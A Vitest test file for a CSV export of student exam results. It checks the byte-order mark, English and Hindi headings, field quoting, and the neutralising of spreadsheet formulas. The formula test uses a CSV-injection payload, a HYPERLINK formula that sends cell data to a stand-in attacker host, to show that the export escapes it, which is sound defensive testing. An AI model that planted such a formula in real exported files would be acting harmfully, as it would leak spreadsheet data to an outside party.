import { afterEach, describe, expect, it } from 'vitest';
import { i18n } from '@/i18n/i18n';
import { formatDateTime } from '@/lib/format';
import { examDetail as hindi } from '@/locales/hi/exam-detail';
import type { TeacherResult } from '@/types/api';
import { resultsCsv } from '../results-csv';

/** The file's lines after its byte-order mark. */
const linesOf = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n');

const result = (overrides: Partial<TeacherResult['student']> = {}): TeacherResult => ({
  result_id: 'r1234567890a',
  exam: 'e1234567890a',
  score: 7,
  total_correct: 7,
  time_taken: 4.5,
  date_completed: '2026-11-24T09:30:00.000Z',
  createdAt: '2026-11-24T09:30:01.000Z',
  total_marks: 8,
  total_questions: 8,
  duration: 10,
  type: 'assessment',
  superseded: false,
  live_round: false,
  in_analytics: true,
  student: {
    student_id: 's1234567890a',
    fullname: 'Mira Das',
    username: 'mira',
    sclass: 4,
    level: 3,
    ...overrides,
  },
  examDetails: { exam_id: 'e1234567890a', title: 'Friday sums', level: 3, daily_practice: false },
});

describe('resultsCsv', () => {
  afterEach(() => i18n.changeLanguage('en'));

  it('starts with a byte-order mark, so that a spreadsheet reads every script as UTF-8', () => {
    const csv = resultsCsv([result({ fullname: 'अनिका शाह' })]);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(linesOf(csv)[1]).toMatch(/^अनिका शाह,mira,/);
  });

  it('writes human headings and one row per result, times and dates as the app writes them', () => {
    const completed = formatDateTime('2026-11-24T09:30:00.000Z');
    // The app's words in this machine's time zone, whichever that is: never the ISO instant.
    expect(completed).toMatch(/^2[345] Nov 2026, \d\d:\d\d$/);
    expect(linesOf(resultsCsv([result()]))).toEqual([
      'Student,Username,Class,Score,Out of,Percentage,Right answers,Questions,Time taken,Seconds taken,Completed,Result ID',
      `Mira Das,mira,4,7,8,87.5,7,8,4 min 30 s,270,"${completed}",r1234567890a`,
      '',
    ]);
  });

  it('writes its headings in the language the app speaks, one column each', async () => {
    i18n.addResourceBundle('hi', 'examDetail', hindi, true, true);
    await i18n.changeLanguage('hi');
    const header = linesOf(resultsCsv([]))[0]!;
    expect(header).toBe(
      'विद्यार्थी,यूज़रनेम,कक्षा,अंक,कुल अंक,प्रतिशत,सही उत्तर,सवाल,लगा समय,लगे सेकंड,पूरा किया,परिणाम ID',
    );
    expect(header.split(',')).toHaveLength(12);
  });

  it('quotes a field with a comma, a quote or a line break, doubling its quotes', () => {
    const row = linesOf(resultsCsv([result({ fullname: 'Das, "Mira"\nJr' })]))[1];
    expect(row).toMatch(/^"Das, ""Mira""\nJr",mira,/);
  });

  it('neutralises text a spreadsheet would run as a formula with a leading quote', () => {
    const firstField = (fullname: string) =>
      linesOf(resultsCsv([result({ fullname })]))[1]!.split(',mira,')[0];
    expect(firstField('=HYPERLINK("https://evil.example/?d="&A2,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")"`,
    );
    expect(firstField('+1+2')).toBe("'+1+2");
    expect(firstField('-2+3')).toBe("'-2+3");
    expect(firstField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(firstField('\t=1+1')).toBe("'\t=1+1");
    expect(firstField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(firstField('Mira = Das')).toBe('Mira = Das');
  });

  it('writes only the header for no results', () => {
    expect(linesOf(resultsCsv([]))).toHaveLength(2);
  });
});
